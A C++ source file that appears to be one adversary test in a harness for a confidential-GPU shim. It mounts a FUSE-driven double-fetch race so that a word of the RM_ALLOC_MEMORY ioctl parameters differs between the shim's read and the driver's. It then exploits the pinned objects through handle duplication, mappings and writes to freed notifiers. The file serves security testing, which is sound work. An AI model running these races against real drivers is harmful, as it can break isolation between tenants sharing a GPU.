// Attacks by the one call that the tenant executes itself: RM_ALLOC_MEMORY that pins pages. A word
// of its parameters changes between the shim's reading and the driver's.
//
// The last words lie on a page of the attacker's own FUSE file. Whoever reads the parameters asks
// for that page after it has read the words before it. The server then changes one of those, and
// gives the page: so the first reader sees the one value, and each later one the other.
#include <fcntl.h>
#include <poll.h>
#include <sys/mman.h>
#include <unistd.h>

#include <atomic>
#include <bit>
#include <cerrno>
#include <csignal>
#include <cstring>
#include <vector>

#include "common.h"
#include "fuse.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"
#include "rm/vidmem.h"

namespace cgpu::adversary {
namespace {

using Lend = rm::nv_ioctl_nvos02_parameters_with_fd;

constexpr std::uint64_t kPageBytes = 4096;
constexpr std::size_t kHeadBytes = sizeof(rm::NVOS02_PARAMETERS);  // on the first page
constexpr std::uint32_t kLendFlags = 1U << 30U | 1U << 12U;        // NVOS02_FLAGS: no map, cached
constexpr std::uint64_t kRangeBase = std::uint64_t{1} << 40;

// Memory that the attacker shares with the server of its file.
struct Stage {
  Lend later;
  std::atomic<bool> served{false};
};

// Two pages: one with the head of a call, shared with the server, and one of the file.
class Theatre {
 public:
  Theatre() {
    const auto [dev, name] = MountFuse(/*all_ids=*/true);
    void* const pages =
        mmap(nullptr, 2 * kPageBytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (pages == MAP_FAILED) {
      Die("failed: no pages");
    }
    pages_ = static_cast<std::byte*>(pages);
    server_ = fork();
    if (server_ == 0) {
      ServeFuse(dev, [&](std::uint64_t unique, std::uint64_t) { AnswerRead(dev, unique); });
    }
    close(dev);
    file_ = open(name.c_str(), O_RDWR | O_CLOEXEC);
    if (file_ < 0) {
      Die("failed: cannot open the file: %s", std::strerror(errno));
    }
    (void)posix_fadvise(file_, 0, 0, POSIX_FADV_RANDOM);  // a page at a time
  }
  Theatre(const Theatre&) = delete;
  Theatre& operator=(const Theatre&) = delete;
  ~Theatre() { kill(server_, SIGKILL); }

  // Returns whether the file was asked for the page.
  bool Call(const Client& client, const Lend& first, const Lend& later) {
    std::byte* const tail = pages_ + kPageBytes;
    if (mmap(tail, kPageBytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_FIXED, file_,
             static_cast<off_t>(next_page_++ * kPageBytes)) == MAP_FAILED) {
      Die("failed: no page: %s", std::strerror(errno));
    }
    stage_->later = later;
    stage_->served = false;
    std::memcpy(head(), &first, kHeadBytes);
    (void)Plainly(client.gpu, rm::NV_ESC_RM_ALLOC_MEMORY, head(), sizeof(Lend));
    return stage_->served;
  }

 private:
  std::byte* head() { return pages_ + kPageBytes - kHeadBytes; }

  void AnswerRead(int dev, std::uint64_t unique) {
    std::vector<char> page(kPageBytes);
    std::memcpy(head(), &stage_->later, kHeadBytes);
    std::memcpy(page.data(), std::bit_cast<const char*>(&stage_->later) + kHeadBytes,
                sizeof(Lend) - kHeadBytes);
    stage_->served = true;
    Reply(dev, unique, page.data(), page.size());
  }

  Stage* const stage_ = Shared<Stage>();
  std::byte* pages_ = nullptr;
  pid_t server_ = -1;
  int file_ = -1;
  std::uint64_t next_page_ = 0;
};

// An object that the call may have made.
struct Candidate {
  std::uint32_t client = 0;
  std::uint32_t handle = 0;
};

struct Attacker {
  Client client = MakeClient();
  Client twin = client;  // another client on the same files
  Theatre theatre;
  void* lent =
      mmap(nullptr, 2 * kPageBytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  std::uint32_t range = 0xcaf60000;
  std::uint64_t mapped = 0;
  std::uint64_t uses = 0;  // that were accepted
  std::uint64_t served = 0;

  Attacker() {
    rm::nv_ioctl_register_fd_t registered{client.ctl};
    (void)Plainly(client.gpu, rm::NV_ESC_REGISTER_FD, &registered, sizeof(registered));
    rm::NVOS21_PARAMETERS alloc{};
    alloc.hClass = rm::NV01_ROOT_CLIENT;
    if (Plainly(client.ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc)) != 0 ||
        alloc.status != rm::NV_OK) {
      Die("failed: no second client");
    }
    twin.root = alloc.hObjectNew;
    twin.next = 0xcaf70000;
    std::memset(lent, 1, 2 * kPageBytes);
    rm::NV_MEMORY_VIRTUAL_ALLOCATION_PARAMS params{};
    params.limit = (std::uint64_t{1} << 47U) - 1;
    if (twin.AllocDevice() != rm::NV_OK ||
        client.Alloc(Client::kDevice, range, rm::NV01_MEMORY_VIRTUAL, &params, sizeof(params)) !=
            rm::NV_OK) {
      Die("failed: no second device, or no range of addresses");
    }
  }

  static std::uint32_t Decoy(std::uint32_t round) { return 0xcaf20000 + round; }
  static std::uint32_t Named(std::uint32_t round) { return 0xcaf30000 + 2 * round; }

  // Pins a page in a call whose `word` is another one for the driver.
  std::vector<Candidate> Pin(std::uint32_t word, std::uint32_t round) {
    rm::NV0080_ALLOC_PARAMETERS device{};
    for (const Client& one : {client, twin}) {
      if (one.Alloc(one.root, Decoy(round), rm::NV01_DEVICE_0, &device, sizeof(device)) !=
          rm::NV_OK) {
        Die("failed: no device for round %u", round);
      }
    }
    Lend first{};
    first.params.hRoot = client.root;
    first.params.hObjectParent = Decoy(round);
    first.params.hObjectNew = Named(round);
    first.params.hClass = rm::NV01_MEMORY_SYSTEM_OS_DESCRIPTOR;
    first.params.flags = kLendFlags;
    first.params.pMemory = std::bit_cast<std::uint64_t>(lent);
    first.params.limit = kPageBytes - 1;
    first.fd = -1;
    Lend later = first;
    switch (word) {
      case 0:
        later.params.hRoot = twin.root;
        break;
      case 1:
        later.params.hObjectParent = Client::kDevice;
        break;
      case 2:
        later.params.hObjectNew = Named(round) + 1;
        break;
      case 3:
        later.params.hClass = rm::NV01_MEMORY_SYSTEM;
        break;
      case 4:
        later.params.flags = kLendFlags | 1U << 16U;
        break;
      case 6:
        later.params.pMemory += kPageBytes;
        break;
      case 8:
        later.params.limit += kPageBytes;
        break;
      case kRegisters:
        later.params.hClass = rm::NV01_MEMORY_LOCAL_PRIVILEGED;
        later.params.flags |= 0xFU << 8U;  // NVOS02_FLAGS_ALLOC_NONE
        break;
      default: {
        std::uint32_t value = 0;
        std::memcpy(&value, std::bit_cast<std::byte*>(&later) + word * sizeof(value),
                    sizeof(value));
        value ^= 1;
        std::memcpy(std::bit_cast<std::byte*>(&later) + word * sizeof(value), &value,
                    sizeof(value));
      }
    }
    served += theatre.Call(client, first, later) ? 1 : 0;
    return {
        {client.root, Named(round)}, {client.root, Named(round) + 1}, {twin.root, Named(round)}};
  }
  static constexpr std::uint32_t kRegisters = 100;  // the class, and the flags that it needs

  void Count(std::uint32_t status) { uses += status == rm::NV_OK ? 1 : 0; }

  // Groups of channels, page tables and copies that depend on it. Groups lie on address spaces, so
  // the driver may refuse them.
  void Use(const Candidate& what) {
    Client mine = what.client == client.root ? client : twin;
    std::uint32_t status = 0;
    if (what.client == client.root) {
      (void)Group(client, what.handle, &status);
      Count(status);
      for (int i = 0; i < 64; ++i) {
        if (MapAt(client, range, what.handle, kRangeBase + mapped * rm::kPageHuge) != rm::NV_OK) {
          break;
        }
        ++mapped;
        ++uses;
      }
    }
    Count(mine.Dup(what.client, what.handle, client.next++));
  }

  // A channel that has its error notifiers there, which then are freed under it.
  void Write(const Candidate& what) {
    if (what.client != client.root) {
      return;
    }
    if (WriteToFreed(client, what.handle, client.next++)) {
      ++uses;
      (void)client.Free(what.handle);
    }
  }
};

// swaps WORD ROUNDS memory|notifier: the word, by its number, or 100 for registers. Says how many
// uses of what was pinned were accepted.
int Swaps(const std::vector<std::string>& args) {
  const auto word = static_cast<std::uint32_t>(Number(args, 0, 1));
  const auto rounds = static_cast<std::uint32_t>(Number(args, 1, 8));
  const bool notifier = args.size() > 2 && args[2] == "notifier";
  Attacker attacker;
  for (std::uint32_t round = 0; round < rounds; ++round) {
    for (const Candidate& what : attacker.Pin(word, round)) {
      if (notifier) {
        attacker.Write(what);
      } else {
        attacker.Use(what);
      }
    }
  }
  Say("served %llu", static_cast<unsigned long long>(attacker.served));
  Say("uses %llu", static_cast<unsigned long long>(attacker.uses));
  std::string line;
  (void)Line(&line);
  // The ledger has it below these.
  for (std::uint32_t round = 0; round < rounds; ++round) {
    (void)attacker.client.Free(Attacker::Decoy(round));
  }
  Say("freed");
  (void)Line(&line);
  Client last = MakeClient();
  Say("got %llu MiB", static_cast<unsigned long long>(Grab(last, 4096, 16)));
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> SwapAttacks() {
  return {{"swaps", Swaps, "WORD ROUNDS memory|notifier: a word that is another for the driver"}};
}

}  // namespace cgpu::adversary
